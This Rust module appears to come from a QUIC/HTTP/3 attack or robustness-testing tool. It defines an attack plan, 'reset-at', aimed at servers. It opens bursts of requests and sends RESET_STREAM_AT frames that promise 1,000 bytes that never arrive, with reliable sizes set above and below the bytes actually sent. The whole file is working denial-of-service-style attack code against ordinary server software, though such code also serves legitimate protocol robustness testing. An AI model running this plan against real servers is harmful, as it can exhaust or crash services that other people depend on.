//! Resets that promise bytes which never arrive.

use courser_wire::{Frame, ResetStreamAt};

use crate::attack::{Plan, Victim};
use crate::encode;
use crate::http::{self, Method};

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "reset-at",
    labels: &["A175"],
    summary: "RESET_STREAM_AT above and below the bytes that arrive, with sizes that shrink",
    victim: Victim::Server,
    make: || Box::new(reset_at()),
};

fn reset_at() -> Crowd {
    Crowd::of_clients(2, |connection, progress, _| {
        let request = http::request(Method::Get, "/");
        let len = request.len() as u64;
        for id in progress.requests(connection, BURST) {
            let mut frames = Vec::new();
            // Larger ones arrive later and are ignored; the last one is below what arrived.
            for reliable_size in [len + PROMISED, len + 1, len + PROMISED - 1, 1] {
                frames.extend(encode(&Frame::ResetStreamAt(ResetStreamAt {
                    id,
                    error_code: REQUEST_CANCELLED,
                    final_size: len + PROMISED,
                    reliable_size,
                })));
                if reliable_size == len + 1 {
                    frames.extend(http::stream(id, 0, &request, false));
                }
                if reliable_size != 1 && !id.index().is_multiple_of(2) {
                    // Every second stream waits for its bytes.
                    break;
                }
            }
            connection.push_bytes(frames);
        }
    })
}

/// Requests of one connection in one turn.
const BURST: u64 = 32;

/// Bytes behind the request that are never sent.
const PROMISED: u64 = 1000;

/// H3_REQUEST_CANCELLED (RFC 9114 §8.1).
const REQUEST_CANCELLED: u64 = 0x10c;
